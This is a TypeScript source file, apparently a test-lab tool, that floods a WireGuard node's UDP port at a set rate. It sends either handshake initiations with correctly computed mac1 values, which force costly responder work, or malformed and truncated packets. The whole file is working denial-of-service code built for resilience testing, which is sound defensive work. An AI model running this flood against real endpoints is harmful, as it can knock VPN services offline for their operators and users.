/**
 * An attacker in the lab: floods a node's UDP port from one address, then prints `{"sent"}`.
 * Usage: flood.ts TARGET_IP PORT WIREGUARD_PUBLIC_KEY KIND PER_SECOND SECONDS
 *
 * KIND `initiation` sends handshake initiations with a valid mac1, the cheapest message that makes a
 * responder calculate (WireGuard paper, section 5.4.4); `garbage` sends random bytes, and every
 * message type cut short or with wrong contents.
 * @module
 */
import { blake2s } from "@noble/hashes/blake2.js";
import { SeededRandom } from "../../../core/random.ts";

const INITIATION_BYTES = 148;
const MAC1_OFFSET = 116;
const MAC_BYTES = 16;
/** Valid sizes by message type: initiation, response, cookie reply, smallest data. */
const SIZE_BY_TYPE = [0, INITIATION_BYTES, 92, 64, 32];
const POOL = 20_000;
const TICK_MS = 5;

const random = new SeededRandom(0xf100d);

function makeInitiation(mac1Key: Uint8Array): Uint8Array {
  const message = random.bytes(INITIATION_BYTES);
  message.set([1, 0, 0, 0]);
  message.set(
    blake2s(message.subarray(0, MAC1_OFFSET), { key: mac1Key, dkLen: MAC_BYTES }),
    MAC1_OFFSET,
  );
  message.fill(0, MAC1_OFFSET + MAC_BYTES);
  return message;
}

function makeGarbage(): Uint8Array {
  const kind = random.uint32() % 6;
  if (kind === 5) return random.bytes(random.uint32() % 1_500);
  const full = SIZE_BY_TYPE[kind]! + (kind === 4 ? 16 * (random.uint32() % 64) : 0);
  const message = random.bytes(random.uint32() % 2 ? full : random.uint32() % (full + 1));
  message.set([kind, 0, 0, 0].slice(0, message.length));
  return message;
}

const [hostname, port, publicKey, kind, perSecond, seconds] = Deno.args as [
  string,
  string,
  string,
  string,
  string,
  string,
];
const label = new TextEncoder().encode("mac1----");
const mac1Key = blake2s(new Uint8Array([...label, ...Uint8Array.fromBase64(publicKey)]));
const pool = Array.from(
  { length: POOL },
  () => kind === "initiation" ? makeInitiation(mac1Key) : makeGarbage(),
);

const socket = Deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 });
const target: Deno.NetAddr = { transport: "udp", hostname, port: Number(port) };
console.log("started");
const start = performance.now();
let sent = 0;
while (performance.now() - start < Number(seconds) * 1_000) {
  const due = Math.floor((performance.now() - start) / 1_000 * Number(perSecond));
  const batch: Promise<number>[] = [];
  for (; sent < due; sent++) batch.push(socket.send(pool[sent % POOL]!, target));
  await Promise.all(batch);
  await new Promise((resolve) => setTimeout(resolve, TICK_MS));
}
socket.close();
console.log(JSON.stringify({ sent }));
